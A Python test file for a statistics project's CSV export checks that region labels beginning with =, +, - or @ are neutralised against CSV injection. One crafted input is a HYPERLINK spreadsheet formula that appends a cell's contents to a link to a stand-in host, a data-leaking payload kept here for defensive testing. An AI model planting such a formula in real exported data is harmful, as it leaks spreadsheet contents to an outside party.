"""Review R2: the published CSV never hands a spreadsheet a formula. A region or programme name
is free text (typed by a caseworker, or imported from a spreadsheet), and a label beginning
with = + - @ would run as a formula when the CSV is opened (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

from corridor.statistics.disclosure import TOTAL, Release
from corridor.statistics.models import Dimension
from corridor.statistics.presentation import to_csv


def test_csv_labels_never_start_a_formula() -> None:
    crafted = ['=HYPERLINK("https://example.org/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "Kyiv"]
    cells: dict[tuple[str, ...], int | None] = {(label,): 12 for label in crafted}
    cells[(TOTAL,)] = 60
    release = Release(dimensions=(tuple(crafted),), cells=cells)

    rows = list(csv.reader(io.StringIO(to_csv(release, [Dimension.REGION]))))

    labels = [row[0] for row in rows[1:]]
    assert all(not label.startswith(("=", "+", "-", "@")) for label in labels)
    assert '\'=HYPERLINK("https://example.org/?"&A1,"x")' in labels
    assert "Kyiv" in labels
    assert [row[1] for row in rows[1:]] == ["12"] * 5 + ["60"]
